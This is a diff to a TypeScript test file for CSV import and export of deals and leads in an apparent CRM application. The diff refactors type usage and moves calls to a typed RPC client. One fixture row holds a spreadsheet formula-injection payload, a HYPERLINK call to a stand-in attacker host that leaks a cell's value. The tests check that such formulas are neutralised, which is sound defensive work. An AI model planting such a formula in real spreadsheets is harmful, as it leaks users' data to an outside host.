@@ -8,7 +8,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { and, asc, count, eq } from 'drizzle-orm';
 import { dealStageHistory, deals, leads, webhookDeliveries, webhookEndpoints } from '../../db/schema';
 import { createTestApp, errorOf, type TestApp, type TestClient } from '../support/app';
-import { createDeal, createPipeline, json, member, stageNamed, type PipelineBody } from '../support/pipeline';
+import { createDeal, createPipeline, json, member, stageNamed, type ImportReport, type PipelineBody } from '../support/pipeline';
 
 const PIPELINE = 'Demo B2C e-commerce pipeline - 1';
 
@@ -21,17 +21,7 @@ let pipeline: PipelineBody;
 let strangerPipeline: PipelineBody;
 const dispatched: string[] = [];
 
-type Report = {
-  kind: string;
-  dryRun: boolean;
-  valid: boolean;
-  rows: number;
-  badRows: number;
-  counts: Record<string, number>;
-  issues: Array<{ path: string; message: string; row: number | null; column: string | null; field: string | null }>;
-  warnings: Array<{ path: string; message: string }>;
-};
-
+/** A CSV upload, as spreadsheet apps send it: the typed client sends JSON only, so these read their report as `json<ImportReport>`. */
 function postCsv(client: TestClient, path: string, csv: string, query = '') {
   return client.request(`${path}${query}`, { method: 'POST', body: csv, headers: { 'content-type': 'text/csv; charset=utf-8' } });
 }
@@ -135,7 +125,7 @@ describe('importing deals', () => {
       '=HYPERLINK("http://evil.example/?x="&A1),0,,,,,,,',
       '',
     ].join('\r\n');
-    const report = await json<Report>(await postCsv(owner, '/api/imports/deals', csv), 201);
+    const report = await json<ImportReport>(await postCsv(owner, '/api/imports/deals', csv), 201);
     expect(report).toMatchObject({ kind: 'deals', dryRun: false, valid: true, rows: 6, badRows: 0, issues: [] });
     expect(report.counts).toEqual({ deals: 6, leadsCreated: 1, leadsLinked: 2 });
     expect(await dealCount()).toBe(dealsBefore + 6);
@@ -182,10 +172,7 @@ describe('importing deals', () => {
     expect(dispatched).toHaveLength(9);
 
     // The board (P's API) sees them in the columns the import chose.
-    const board = await json<{ columns: Array<{ stage: { name: string }; deals: Array<{ name: string }> }> }>(
-      await owner.get(`/api/pipelines/${pipeline.id}/board`),
-      200,
-    );
+    const board = await json(await owner.rpc.api.pipelines[':id'].board.$get({ param: { id: pipeline.id }, query: {} }), 200);
     expect(board.columns.find((c) => c.stage.name === 'Lead generation')!.deals.map((d) => d.name)).toEqual([
       'Already here',
       'Cosmetics set - Ava Smith',
@@ -213,13 +200,15 @@ describe('importing deals', () => {
 
   it('dry run: reports problems and counts with 200, and writes nothing', async () => {
     const before = { deals: await dealCount(), leads: await leadCount() };
-    const bad = await json<Report>(
-      await owner.post('/api/imports/deals', { csv: 'Name,Value\nFine,5\nBroken,five\n', dryRun: true, pipelineId: pipeline.id }),
+    const bad = await json(
+      await owner.rpc.api.imports.deals.$post({
+        json: { csv: 'Name,Value\nFine,5\nBroken,five\n', dryRun: true, pipelineId: pipeline.id },
+      }),
       200,
     );
     expect(bad).toMatchObject({ dryRun: true, valid: false, rows: 2, badRows: 1, counts: { deals: 1 } });
     expect(bad.issues).toEqual([expect.objectContaining({ path: 'row 3.amount', column: 'Value' })]);
-    const good = await json<Report>(
+    const good = await json<ImportReport>(
       await postCsv(
         owner,
         '/api/imports/deals',
@@ -234,13 +223,15 @@ describe('importing deals', () => {
 
   it('JSON body with a column mapping, a default currency and a date format', async () => {
     const csv = 'Opportunity,Deal size (¥),Phase,When\nKyoto order,"12,000",Checkout abandonment,03/04/2026\n';
-    const report = await json<Report>(
-      await owner.post('/api/imports/deals', {
-        csv,
-        pipelineId: pipeline.id,
-        currency: 'jpy',
-        dateFormat: 'DD/MM/YYYY',
-        mapping: { Opportunity: 'name', 'Deal size (¥)': 'amount', phase: 'Stage', When: 'expectedClose' },
+    const report = await json(
+      await owner.rpc.api.imports.deals.$post({
+        json: {
+          csv,
+          pipelineId: pipeline.id,
+          currency: 'jpy',
+          dateFormat: 'DD/MM/YYYY',
+          mapping: { Opportunity: 'name', 'Deal size (¥)': 'amount', phase: 'Stage', When: 'expectedClose' },
+        },
       }),
       201,
     );
@@ -259,7 +250,7 @@ describe('importing deals', () => {
     form.set('file', new File(['Deal name,Value\nUploaded deal,7\n'], 'deals.csv', { type: 'text/csv' }));
     form.set('pipelineId', pipeline.id);
     form.set('dryRun', 'true');
-    const report = await json<Report>(await owner.request('/api/imports/deals', { method: 'POST', body: form }), 200);
+    const report = await json<ImportReport>(await owner.request('/api/imports/deals', { method: 'POST', body: form }), 200);
     expect(report).toMatchObject({ dryRun: true, valid: true, counts: { deals: 1 } });
   });
 
@@ -279,7 +270,9 @@ describe('importing deals', () => {
     const noCsv = await owner.post('/api/imports/deals', { pipelineId: pipeline.id });
     expect((await errorOf(noCsv)).fields).toEqual([expect.objectContaining({ path: 'csv' })]);
 
-    const badMapping = await owner.post('/api/imports/deals', { csv: 'Name\nX\n', mapping: { Nope: 'name' }, pipelineId: pipeline.id });
+    const badMapping = await owner.rpc.api.imports.deals.$post({
+      json: { csv: 'Name\nX\n', mapping: { Nope: 'name' }, pipelineId: pipeline.id },
+    });
     expect((await errorOf(badMapping)).fields).toEqual([
       expect.objectContaining({ path: 'mapping.Nope', message: 'The file has no column named "Nope".' }),
     ]);
@@ -301,21 +294,21 @@ describe('importing deals', () => {
     expect((await errorOf(denied)).code).toBe('read_only_role');
     expect((await postCsv(viewer, '/api/imports/leads', 'Email\nx@example.com\n')).status).toBe(403);
 
-    const foreign = await owner.post('/api/imports/deals', { csv: 'Name\nX\n', pipelineId: strangerPipeline.id });
+    const foreign = await owner.rpc.api.imports.deals.$post({ json: { csv: 'Name\nX\n', pipelineId: strangerPipeline.id } });
     expect(foreign.status).toBe(404);
     expect(await errorOf(foreign)).toMatchObject({ code: 'not_found', message: 'Pipeline not found.' });
     // By name, the other workspace's pipeline does not exist either.
-    const byName = await owner.post('/api/imports/deals', { csv: 'Name,Pipeline\nX,Their pipeline\n' });
+    const byName = await owner.rpc.api.imports.deals.$post({ json: { csv: 'Name,Pipeline\nX,Their pipeline\n' } });
     expect((await errorOf(byName)).fields?.[0]?.message).toMatch(/^No pipeline is named "Their pipeline"/);
     expect(await dealCount()).toBe(before);
   });
 
   it('needs a pipeline when the workspace has several and the file names none', async () => {
     await createPipeline(owner, 'B2B sales', 'b2b');
-    const res = await owner.post('/api/imports/deals', { csv: 'Name\nX\n' });
+    const res = await owner.rpc.api.imports.deals.$post({ json: { csv: 'Name\nX\n' } });
     expect((await errorOf(res)).fields).toEqual([expect.objectContaining({ path: 'pipelineId' })]);
-    const named = await json<Report>(
-      await owner.post('/api/imports/deals', { csv: 'Name,Pipeline,Stage\nX,b2b SALES,proposal\n', dryRun: true }),
+    const named = await json(
+      await owner.rpc.api.imports.deals.$post({ json: { csv: 'Name,Pipeline,Stage\nX,b2b SALES,proposal\n', dryRun: true } }),
       200,
     );
     expect(named).toMatchObject({ valid: true, counts: { deals: 1 } });
@@ -337,7 +330,7 @@ describe('importing leads', () => {
     const deliveriesBefore = (await deliveryTypes()).length;
     const csv =
       'E-mail,First name,Last name,Company,Phone,Plan\r\ncy@example.com,,,New Co,,pro\r\nnew1@example.com,Nia,New,=1+2,+1 555 010 0199,\r\nnew2@example.com,,,,,\r\n';
-    const report = await json<Report>(await owner.post('/api/imports/leads', { csv, mapping: { Plan: 'fields.plan' } }), 201);
+    const report = await json(await owner.rpc.api.imports.leads.$post({ json: { csv, mapping: { Plan: 'fields.plan' } } }), 201);
     expect(report.counts).toEqual({ leadsCreated: 2, leadsUpdated: 1, leadsUnchanged: 0 });
     const [cy] = await t.database.db.select().from(leads).where(eq(leads.id, 'lead-cy'));
     expect(cy).toMatchObject({
@@ -352,11 +345,11 @@ describe('importing leads', () => {
     expect((await deliveryTypes()).slice(deliveriesBefore)).toEqual(['lead.created', 'lead.created']);
 
     // The export neutralises the formula again.
-    const exported = await (await owner.get('/api/exports/leads?q=new1')).text();
+    const exported = await (await owner.rpc.api.exports.leads.$get({ query: { q: 'new1' } })).text();
     expect(exported).toContain(",'=1+2,");
 
     // The same file again changes nothing.
-    const again = await json<Report>(await owner.post('/api/imports/leads', { csv, mapping: { Plan: 'fields.plan' } }), 201);
+    const again = await json(await owner.rpc.api.imports.leads.$post({ json: { csv, mapping: { Plan: 'fields.plan' } } }), 201);
     expect(again.counts).toEqual({ leadsCreated: 0, leadsUpdated: 0, leadsUnchanged: 3 });
   });
 
@@ -375,8 +368,8 @@ describe('importing leads', () => {
   });
 
   it('reads its own export back', async () => {
-    const exported = await (await owner.get('/api/exports/leads')).text();
-    const report = await json<Report>(await postCsv(owner, '/api/imports/leads', exported, '?dryRun=1'), 200);
+    const exported = await (await owner.rpc.api.exports.leads.$get({ query: {} })).text();
+    const report = await json<ImportReport>(await postCsv(owner, '/api/imports/leads', exported, '?dryRun=1'), 200);
     expect(report).toMatchObject({ valid: true, counts: { leadsCreated: 0, leadsUpdated: 0 } });
     expect(report.counts.leadsUnchanged).toBe(await leadCount());
     expect(report.warnings.map((w) => w.path)).toEqual([
@@ -396,7 +389,7 @@ describe('a full file', () => {
     expect(csv.length).toBeLessThan(256 * 1024);
     const dealsBefore = await dealCount();
     const deliveriesBefore = (await deliveryTypes()).length;
-    const report = await json<Report>(await postCsv(owner, '/api/imports/deals', csv, `?pipelineId=${bulk.id}`), 201);
+    const report = await json<ImportReport>(await postCsv(owner, '/api/imports/deals', csv, `?pipelineId=${bulk.id}`), 201);
     expect(report.counts).toEqual({ deals: 5000, leadsCreated: 5000, leadsLinked: 0 });
     expect(await dealCount()).toBe(dealsBefore + 5000);
     expect((await deliveryTypes()).length).toBe(deliveriesBefore + 10_000);
